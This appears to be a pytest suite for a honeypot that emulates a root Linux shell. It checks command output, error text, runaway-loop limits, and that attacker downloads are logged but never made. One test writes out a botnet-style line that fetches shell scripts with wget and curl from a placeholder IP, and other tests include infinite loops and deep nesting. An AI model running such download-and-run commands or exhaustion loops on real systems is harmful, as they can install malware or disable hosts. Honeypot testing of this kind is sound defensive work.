import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from samovar.shell import Files, Output, login_shell
from samovar.shell.shell import MAX_OUTPUT
from tests.personas import NOW, persona


def run(line: str | bytes, stdin: bytes | None = b"") -> Output:
    raw = line.encode() if isinstance(line, str) else line
    return login_shell(persona(), Files(persona()), "root").run(raw, float(NOW), stdin)


def stdout(output: Output) -> bytes:
    return b"".join(data for fd, data in output.written if fd == 1)


def stderr(output: Output) -> bytes:
    return b"".join(data for fd, data in output.written if fd == 2)


@pytest.mark.parametrize(
    ("line", "out", "status"),
    [
        ("uname -s -m", b"Linux x86_64\n", 0),
        ("whoami; pwd", b"root\n/root\n", 0),
        ("echo -e '\\x67\\x61y'", b"gay\n", 0),
        ("echo -n a; echo b", b"ab\n", 0),
        ("true && echo t || echo f; false && echo t || echo f", b"t\nf\n", 0),
        ("nosuchcmd; echo $?", b"127\n", 0),
        ("x=$(uname -m); echo \"arch=$x\" '$x'", b"arch=x86_64 $x\n", 0),
        ("for i in 1 2 3; do echo $i; done", b"1\n2\n3\n", 0),
        ("if false; then echo a; else echo b; fi", b"b\n", 0),
        ("cat /proc/cpuinfo | grep name | wc -l", b"2\n", 0),
        ("echo ${HOME:-none} ${FOO:-bar}", b"/root bar\n", 0),
        ("echo hi > /tmp/.x; cat /tmp/.x; rm -f /tmp/.x; ls /tmp/.x", b"hi\n", 2),
        (">/tmp/.ptmx && cd /tmp/ && pwd", b"/tmp\n", 0),
        ("echo err 1>&2 2>/dev/null", b"", 0),
        ("cat <<EOF\nline $HOME\nEOF", b"line /root\n", 0),
        ("dd bs=52 count=1 if=/bin/ls 2>/dev/null | wc -c", b"52\n", 0),
        ("(cd /tmp; echo a) | tail -1", b"a\n", 0),
        ("exit 7", b"", 7),
        ("sh -c 'echo a; false'", b"a\n", 1),
    ],
)
def test_lines(line: str, out: bytes, status: int) -> None:
    output = run(line)
    assert (stdout(output), output.status) == (out, status)


def test_words_of_error() -> None:
    assert stderr(run("nosuchcmd")) == b"-bash: nosuchcmd: command not found\n"
    assert stderr(run("/bin/busybox ECCHI")) == b"ECCHI: applet not found\n"
    assert stderr(run("cat /none")) == b"cat: /none: No such file or directory\n"
    assert stderr(run("echo a | | b")) == b"-bash: syntax error near unexpected token `|'\n"


def test_fetches_are_named_and_never_made() -> None:
    output = run("cd /tmp; wget http://198.51.100.9/x.sh || curl -O http://198.51.100.9/y.sh")
    assert output.urls == ("http://198.51.100.9/x.sh", "http://198.51.100.9/y.sh")


def test_unfinished_lines_and_input_are_asked_for() -> None:
    assert run("echo 'a").incomplete
    assert run("cat > /tmp/f", None).wants_input
    assert not run("cat > /tmp/f", b"data").wants_input


def test_written_files_are_artefacts_once() -> None:
    shell = login_shell(persona(), Files(persona()), "root")
    shell.run(b"echo a > /tmp/f", float(NOW))
    assert [(keep.name, keep.data) for keep in shell.artefacts()] == [("/tmp/f", b"a\n")]
    assert list(shell.artefacts()) == []


@pytest.mark.parametrize(
    "line",
    [
        "while true; do echo x; done",
        "while true; do :; done",
        "a=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa; while true; do a=$a$a; done",
        "echo " + "$(" * 500 + ")" * 500,
        "( " * 500 + "id" + " )" * 500,
        "f=/tmp/f; echo 'sh /tmp/f' > $f; sh /tmp/f",
        "while true; do cat /proc/cpuinfo >> /tmp/x; done",
    ],
)
def test_nothing_runs_for_ever(line: str) -> None:
    output = run(line)
    assert output.status in (137, 2)
    assert sum(len(data) for _, data in output.written) <= MAX_OUTPUT + 100


@settings(max_examples=300)
@given(st.text(alphabet="ab$(){}`'\"\\;|&<>\n #!=/-", max_size=40))
def test_any_line_is_answered(line: str) -> None:
    assert isinstance(run(line), Output)
